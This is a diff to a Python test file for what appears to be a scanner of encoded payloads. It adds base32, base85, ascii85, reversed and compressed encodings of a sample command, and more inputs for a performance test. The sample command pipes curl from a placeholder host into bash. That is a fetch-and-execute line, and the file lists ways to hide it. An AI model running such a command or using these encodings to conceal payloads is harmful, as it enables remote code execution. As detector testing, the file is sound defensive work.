@@ -12,6 +12,7 @@ from tests.rows import each_row
 
 COMMAND = '/bin/bash -c "$(curl -fsSL http://host.invalid/x)"'
 PLAIN = base64.b64encode(COMMAND.encode()).decode()
+BASE32 = base64.b32encode(COMMAND.encode()).decode()
 GZIP = base64.b64encode(gzip.compress(COMMAND.encode())).decode()
 
 FORMS = {
@@ -32,6 +33,13 @@ FORMS = {
     "zlib": base64.b64encode(zlib.compress(COMMAND.encode())).decode(),
     "twice": base64.b64encode(PLAIN.encode()).decode(),
     "wide characters": base64.b64encode(COMMAND.encode("utf-16-le")).decode(),
+    "base32": BASE32,
+    "base32 in lines": f"{BASE32[:40]}\n{BASE32[40:]}",
+    "base85": f"x = b'{base64.b85encode(COMMAND.encode()).decode()}'",
+    "ascii85": f"x = {base64.a85encode(COMMAND.encode())!r}",
+    "base85 after a name": f"GRID={base64.b85encode(COMMAND.encode()).decode()}",
+    "base85 of zlib": f"b85decode('{base64.b85encode(zlib.compress(COMMAND.encode() * 3)).decode()}')",
+    "reversed": f'"{PLAIN[::-1]}"',
 }
 
 
@@ -64,7 +72,25 @@ def test_compressed_data_is_expanded_within_a_limit() -> None:
     assert all(len(found.decoded) <= 400_000 for found in encoded_texts(bomb))
 
 
-@each_row("unit", ["A", "QUJD\n", "a='QUJD'\n", "\\x41", "'A", "abcd' + ", "ab cd", " \t", "abcd" + "\n" * 999, "x='"])
+@each_row(
+    "unit",
+    [
+        "A",
+        "XmoUN",
+        "~!XmoUN|",
+        "BQS?8\n" * 5,
+        "B#XmoUN" * 10 + chr(34),
+        "QUJD\n",
+        "a='QUJD'\n",
+        "\\x41",
+        "'A",
+        "abcd' + ",
+        "ab cd",
+        " \t",
+        "abcd" + "\n" * 999,
+        "x='",
+    ],
+)
 def test_long_texts_cost_linear_time(unit: str) -> None:
     begun = time.process_time()
     assert sum(1 for _ in encoded_texts(unit * (1_000_000 // len(unit)))) < 1_000
